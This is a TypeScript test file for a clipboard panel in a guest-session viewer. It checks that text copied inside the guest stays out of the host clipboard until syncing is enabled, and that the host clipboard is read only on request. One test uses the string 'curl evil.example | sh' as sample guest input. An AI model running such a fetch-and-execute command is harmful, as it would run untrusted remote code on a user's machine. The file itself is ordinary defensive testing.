import { beforeEach, expect, test, vi } from "vitest";
import { rendered } from "@/components/data/rendered.test-data";
import { ClipboardPanel } from "./clipboard-panel";
import { type GuestClipboard, useGuestClipboard } from "./use-guest-clipboard";

const ofThisComputer = { writeText: vi.fn(async () => undefined), readText: vi.fn(async () => "a secret") };
let clipboard: GuestClipboard;

function Panel() {
  clipboard = useGuestClipboard();
  const nothing = () => undefined;
  return (
    <ClipboardPanel
      clipboard={clipboard}
      onGive={nothing}
      onType={nothing}
      onClose={nothing}
      readOnly={false}
      layoutName="German"
    />
  );
}

beforeEach(() => {
  vi.clearAllMocks();
  Object.defineProperty(navigator, "clipboard", { value: ofThisComputer, configurable: true });
});

test("what a guest copies is shown, and goes no further unasked", async () => {
  const page = await rendered(<Panel />);
  await page.after(() => clipboard.onGuestCopied("curl evil.example | sh"));
  expect(page.root.querySelector("textarea")?.value).toBe("curl evil.example | sh");
  expect(ofThisComputer.writeText).not.toHaveBeenCalled();
  expect(ofThisComputer.readText).not.toHaveBeenCalled();
});

test("goes into this computer's clipboard once that is switched on", async () => {
  const page = await rendered(<Panel />);
  await page.after(() => page.root.querySelector<HTMLInputElement>("input[type=checkbox]")?.click());
  await page.after(() => clipboard.onGuestCopied("an address"));
  expect(ofThisComputer.writeText).toHaveBeenCalledWith("an address");
});

test("this computer's clipboard is read when somebody asks for it", async () => {
  const page = await rendered(<Panel />);
  await page.after(() =>
    page.root.querySelector<HTMLButtonElement>('button[aria-label^="Paste from this computer"]')?.click(),
  );
  expect(page.root.querySelector("textarea")?.value).toBe("a secret");
});
